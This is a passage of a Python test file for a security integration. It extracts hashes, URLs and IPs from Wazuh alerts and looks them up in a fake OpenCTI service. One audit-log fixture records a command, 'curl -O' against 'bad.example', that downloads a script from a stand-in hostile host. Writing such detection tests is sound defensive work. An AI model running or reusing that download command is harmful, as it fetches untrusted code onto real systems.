        assert alert_observables(alert) == [("hash", SHA256)]
    deleted = _alert(
        ["ossec", "syscheck", "syscheck_entry_deleted", "syscheck_file"],
        syscheck={"path": "/usr/bin/evil", "sha256_after": SHA256},
    )
    assert alert_observables(deleted) == []


def test_osquery(samples_dir: Path):
    assert alert_observables(_sample(samples_dir, "osquery_24010.json")) == []  # no sha256
    nested = _alert(["osquery_file"], data={"osquery": {"columns": {"sha256": SHA256}}})
    assert alert_observables(nested) == [("hash", SHA256)]
    flat = _alert(["osquery"], data={"columns": {"sha256": SHA256.upper()}})
    assert alert_observables(flat) == [("hash", SHA256)]
    empty = _alert(["osquery"], data={"osquery": {"columns": {"sha256": EMPTY_SHA256}}})
    assert alert_observables(empty) == []


def test_empty_file_hash_from_sysmon_is_ignored():
    alert = _alert(
        ["sysmon_eid1_detections"],
        data={"win": {"eventdata": {"hashes": "SHA256=" + EMPTY_SHA256.upper()}}},
    )
    assert alert_observables(alert) == []


AUDIT = _alert(
    ["audit", "audit_command"],
    data={
        "audit": {
            "execve": {
                "a0": "curl",
                "a1": "-O",
                "a2": "http://bad.example/x.sh",
                "a10": "https://second.example/y",
                "a3": "httpd",
                "a4": "a",
                "a5": "b",
                "a6": "c",
                "a7": "d",
                "a8": "e",
                "a9": "f",
            },
            "success": "yes",
            "uid": "1000",
            "exe": "/usr/bin/curl",
            "pid": "4242",
            "key": "audit-wazuh-c",
            "type": "EXECVE",
        }
    },
)


def test_audit_command_urls_are_extracted_themselves():
    assert alert_observables(AUDIT) == [
        ("url", "http://bad.example/x.sh"),
        ("url", "https://second.example/y"),
    ]


def test_audit_context_joins_execve_in_argument_order():
    source = alert_context(AUDIT)
    assert source["execve"] == (
        "curl -O http://bad.example/x.sh httpd a b c d e f https://second.example/y"
    )
    assert {k: source[k] for k in ("success", "uid", "exe", "pid", "key")} == {
        "success": "yes",
        "uid": "1000",
        "exe": "/usr/bin/curl",
        "pid": "4242",
        "key": "audit-wazuh-c",
    }
    assert "type" not in source


def test_alerts_of_no_branch():
    assert alert_observables(_alert(["sshd", "authentication_failed"], data={"srcip": IP})) == []


@pytest.mark.parametrize(
    "alert",
    [
        {},
        {"rule": None},
        {"rule": {"groups": None}},
        {"rule": {"groups": "ids"}, "data": "not a dict"},
        {"rule": {"groups": ["ids", 5]}, "data": {"dest_ip": ["1.2.3.4"]}},
        {"rule": {"groups": ["sysmon_eid1_detections"]}, "data": {"win": {"eventdata": 5}}},
        {
            "rule": {"groups": ["sysmon_eid1_detections"]},
            "data": {"win": {"eventdata": {"hashes": 5}}},
        },  # noqa: E501
        {"rule": {"groups": ["sysmon_eid22"]}, "data": {"win": {"eventdata": {"queryResults": 7}}}},  # noqa: E501
        {"rule": {"groups": ["audit_command"]}, "data": {"audit": {"execve": "curl http://x"}}},
        {"rule": {"groups": ["ids"]}, "data": {"method": "QUERY", "dns": {"answers": "x"}}},
        {"rule": {"groups": ["syscheck_file", "syscheck_entry_added"]}, "syscheck": "x"},
    ],
)
def test_odd_alerts_give_nothing_and_never_raise(alert: dict[str, Any]):
    assert alert_observables(alert) == []
    assert isinstance(alert_context(alert), dict)


def test_stringified_scalars_in_ids_alert():
    alert = {"id": 17, "rule": {"id": 86601, "groups": ["ids"]}, "data": {"dest_ip": " 1.2.3.4 "}}
    assert alert_observables(alert) == [("ip", "1.2.3.4")]
    assert alert_context(alert) == {"alert_id": 17, "rule_id": 86601, "dest_ip": " 1.2.3.4 "}


# --- context (§1.4 point 4) ----------------------------------------------------------------------


def test_suricata_context_has_the_alert_signature():
    assert alert_context(SURICATA) == {
        "alert_id": "1714731302.9912",
        "rule_id": "86601",
        "in_iface": "eth1",
        "src_ip": "10.20.0.42",
        "src_port": "49822",
        "dest_ip": IP,
        "dest_port": "443",
        "proto": "TCP",
        "app_proto": "tls",
        "alert": {
            "action": "allowed",
            "category": "A Network Trojan was detected",
            "signature": "ET MALWARE Cobalt Strike Beacon Observed",
            "signature_id": "2027082",
        },
    }


def test_sysmon_dns_context_matches_the_documented_source():
    assert alert_context(SYSMON_DNS) == {
        "alert_id": "1693478062.194800757",
        "rule_id": "100140",
        "queryName": DOMAIN,
        "queryResults": SYSMON_DNS["data"]["win"]["eventdata"]["queryResults"],
        "image": "C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe",
    }


def test_syscheck_context(samples_dir: Path):
    source = alert_context(_sample(samples_dir, "syscheck_file_added_554_sha256.json"))
    assert source == {
        "alert_id": "1668705462.50453",
        "rule_id": "554",
        "file": "/media/user/software/suspicious-file.exe",
        "md5": "d41d8cd98f00b204e9800998ecf8427e",
        "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "sha256": EMPTY_SHA256,
    }


# --- alert to lookup, end to end ---------------------------------------------------------------


def test_sysmon_alert_with_upper_case_hash_finds_the_lower_case_file(
    cti: OpenCTIFake, octi: OpenCTI
):
    ind = cti.add_indicator(f"[file:hashes.'SHA-256' = '{SHA256}']", name="EICAR", score=100)
    cti.add_observable("StixFile", hashes={"SHA-256": SHA256}, indicators=[ind])
    [(kind, value)] = alert_observables(SYSMON_EID1)
    hit = octi.lookup(kind, value)
    assert hit.verdict == "malicious" and hit.score == 100
    assert [e["event_type"] for e in hit.extra["events"]] == ["indicator_pattern_match"]
    assert cti.calls_for(SHA256) == 1
